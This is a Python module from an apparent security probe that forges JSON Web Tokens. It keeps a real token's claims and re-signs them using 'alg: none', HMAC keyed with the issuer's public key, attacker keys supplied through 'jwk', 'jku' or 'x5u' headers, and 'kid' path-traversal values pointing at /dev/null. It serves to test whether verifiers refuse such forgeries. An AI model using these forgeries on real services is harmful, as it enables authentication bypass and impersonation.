"""Token forgeries an adversary would try, built with joserfc's public API.

Every forgery keeps the real token's claims (``cnf.jkt`` too, so a fresh proof of the
credential's key still matches) and changes only how the token is signed or what its
header says: no signature at all (``alg: none``), an HMAC keyed with the issuer's
public key (algorithm confusion), a key of the probe's own named in the header
(``jwk``, or by URL: ``jku``, ``x5u``), a ``kid`` that walks out of a key directory.
For the URLs the probe serves the key itself (:mod:`zerolane.probe.callback`): a JWK
Set (:meth:`ProbeKey.jwks`) and a self-signed certificate (:meth:`ProbeKey.certificate_pem`,
built with ``cryptography``'s public X.509 API). A sound
verifier refuses each; one that accepts any of them accepts tokens anyone can mint.

Reading the real token's header and claims (to copy them) is
:func:`zerolane.tokens.jws.unverified_claims` / ``unverified_header``: joserfc splits
and decodes, nothing here parses a JWS by hand. Signing is
:func:`joserfc.jws.serialize_compact` over a registry of the algorithms a forgery uses
(``none``, ``HS256``, ``ES256``); the HMAC and the ECDSA are joserfc's.

Two keys joserfc will not import on purpose, and how they are handled:

* The issuer's public key as an HMAC secret: ``OctKey.import_key`` refuses key material
  that parses as an asymmetric key (a PEM or DER public key), which is the guard a
  verifier needs against this very attack. The forger is the attacker's side, so it
  builds the ``OctKey`` from the raw bytes with the class's constructor
  (``OctKey(raw, raw)``), which skips that import-time check, and joserfc's own
  ``HS256`` signs with it. The bytes are the key's serialized forms as a verifier would
  hold them (:func:`public_key_forms`).
* An empty key (what ``kid: ../../dev/null`` reads): joserfc refuses empty HMAC keys
  outright. HMAC pads a key shorter than the hash's block with zero bytes (RFC 2104,
  section 2), so an all-zero key of 32 bytes gives exactly the MAC an empty key gives:
  :data:`ZERO_KEY` is what is signed with, and the signature verifies with ``b""``.
"""

from __future__ import annotations

import datetime
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import NameOID
from joserfc import jws
from joserfc.jwa import ESAlgorithm, HMACAlgorithm, NoneAlgorithm
from joserfc.jwk import ECKey, OctKey, import_key

from zerolane.tokens.jws import JwsError, parse

#: a key equal, for HMAC, to the empty key (zero-padded to the block size either way)
ZERO_KEY = b"\x00" * 32
#: ``kid`` values that lead a file-backed key lookup to an empty file
TRAVERSAL_KIDS = (
    "../../../../../../dev/null",
    "/dev/null",
    "..%2f..%2f..%2f..%2f..%2f..%2fdev%2fnull",
)
#: the probe key's certificate: its name, and how long it is valid either side of now
CERT_NAME = "zerolane probe (forged key)"
CERT_VALID = datetime.timedelta(days=1)


class _QuietNone(NoneAlgorithm):
    """joserfc's ``none``, without the deprecation warning: forging it is the point."""

    security_warning = None  # type: ignore[assignment]  # joserfc's base allows None


class _ForgeRegistry(jws.JWSRegistry):
    """The algorithms a forgery signs with, and nothing else."""

    algorithms: dict[str, Any] = {}  # noqa: RUF012  (joserfc keeps them on the class)
    recommended: list[str] = []  # noqa: RUF012


for _model in (_QuietNone(), HMACAlgorithm(256), ESAlgorithm("ES256", "P-256", 256)):
    _ForgeRegistry.register(_model)
_REGISTRY = _ForgeRegistry(algorithms=["none", "HS256", "ES256"], strict_check_header=False)


class NotAJwt(ValueError):
    """The credential's token is not a compact JWS with a claims object: there is
    nothing to copy into a forgery (an opaque token)."""


@dataclass(frozen=True)
class Original:
    """A real token's header and claims, read without trusting it."""

    header: dict[str, Any]
    claims: dict[str, Any]

    @classmethod
    def of(cls, token: str) -> Original:
        try:
            parsed = parse(token)
            claims = json.loads(parsed.payload)
        except (JwsError, ValueError, RecursionError) as error:
            raise NotAJwt("the token is not a JWT") from error
        if not isinstance(claims, dict):
            raise NotAJwt("the token's payload is not a claims object")
        return cls(dict(parsed.header), claims)

    def headed(self, **members: Any) -> dict[str, Any]:
        """The real header with ``members`` set (``None`` removes a member)."""
        header = {**self.header, **members}
        return {name: value for name, value in header.items() if value is not None}


@dataclass(frozen=True)
class ProbeKey:
    """An ES256 key of the probe's own: what an attacker signs with."""

    key: ECKey = field(default_factory=lambda: ECKey.generate_key("P-256"))

    @property
    def kid(self) -> str:
        return str(self.key.thumbprint())

    @property
    def public_jwk(self) -> dict[str, Any]:
        return {**self.key.as_dict(private=False), "kid": self.kid}

    def jwks(self) -> bytes:
        """The JWK Set a ``jku`` names: the probe's public key (RFC 7517 section 5)."""
        return json.dumps({"keys": [self.public_jwk]}).encode()

    def certificate_pem(self) -> bytes:
        """A self-signed certificate for the probe's key, in PEM: the chain of one an
        ``x5u`` names (RFC 7515 4.1.5: the first certificate holds the signing key)."""
        private = self.key.private_key
        assert private is not None  # a generated key has its private half
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, CERT_NAME)])
        now = datetime.datetime.now(datetime.UTC)
        certificate = (
            x509.CertificateBuilder()
            .subject_name(name)
            .issuer_name(name)
            .public_key(private.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - CERT_VALID)
            .not_valid_after(now + CERT_VALID)
            .sign(private, hashes.SHA256())
        )
        return certificate.public_bytes(serialization.Encoding.PEM)


def _payload(claims: Mapping[str, Any]) -> bytes:
    return json.dumps(dict(claims), separators=(",", ":")).encode()


def _sign(header: dict[str, Any], claims: Mapping[str, Any], key: Any) -> str:
    algorithms = [str(header["alg"])]
    return jws.serialize_compact(
        header, _payload(claims), key, algorithms=algorithms, registry=_REGISTRY
    )


def alg_none(token: str) -> str:
    """The token's claims under ``alg: none`` and an empty signature (RFC 7518 3.6)."""
    original = Original.of(token)
    return _sign(original.headed(alg="none"), original.claims, None)


def hs256(token: str, secret: bytes, **header: Any) -> str:
    """The token's claims signed HS256 with ``secret`` (the real ``kid`` and ``typ``
    kept unless ``header`` replaces them)."""
    original = Original.of(token)
    key = OctKey(secret, secret)  # the constructor: import_key refuses public keys
    return _sign(original.headed(**header, alg="HS256"), original.claims, key)


def public_key_forms(jwk: Mapping[str, Any]) -> list[tuple[str, bytes]]:
    """The serialized forms of an issuer's public key a confused verifier may hold as
    its key material: PEM SubjectPublicKeyInfo (with and without its final newline),
    the DER it encodes, and the JWK as JSON (compact, and with spaces)."""
    public = import_key(dict(jwk))
    if isinstance(public, OctKey):
        return []  # a shared secret published as a public key is another finding
    pem = public.as_pem(private=False)
    der = public.as_der(private=False)
    return [
        ("pem", pem),
        ("pem-stripped", pem.rstrip(b"\n")),
        ("der", der),
        ("jwk-json", json.dumps(dict(jwk), separators=(",", ":")).encode()),
        ("jwk-json-spaced", json.dumps(dict(jwk)).encode()),
    ]


def with_jwk(token: str, key: ProbeKey, *, kid: str | None = None) -> str:
    """The token's claims signed by ``key``, with that key embedded as the ``jwk``
    header (RFC 7515 4.1.3) and ``kid`` (the real one, or the probe key's when None)."""
    original = Original.of(token)
    header = original.headed(alg="ES256", kid=kid or key.kid, jwk=key.public_jwk)
    return _sign(header, original.claims, key.key)


def with_jku(token: str, key: ProbeKey, url: str) -> str:
    """The token's claims signed by ``key``, the header's ``jku`` (RFC 7515 4.1.2)
    pointing at ``url`` (where :meth:`ProbeKey.jwks` is served) and ``kid`` naming
    the probe's key."""
    original = Original.of(token)
    header = original.headed(alg="ES256", kid=key.kid, jku=url)
    return _sign(header, original.claims, key.key)


def with_x5u(token: str, key: ProbeKey, url: str) -> str:
    """The token's claims signed by ``key``, the header's ``x5u`` (RFC 7515 4.1.5)
    pointing at ``url`` (where :meth:`ProbeKey.certificate_pem` is served; no ``kid``:
    the certificate names the key)."""
    original = Original.of(token)
    header = original.headed(alg="ES256", kid=None, x5u=url)
    return _sign(header, original.claims, key.key)


def with_kid(token: str, kid: str) -> str:
    """The token's claims signed HS256 with the empty key (:data:`ZERO_KEY`) under
    ``kid``: what a verifier that reads ``kid`` as a file path would check against."""
    return hs256(token, ZERO_KEY, kid=kid)
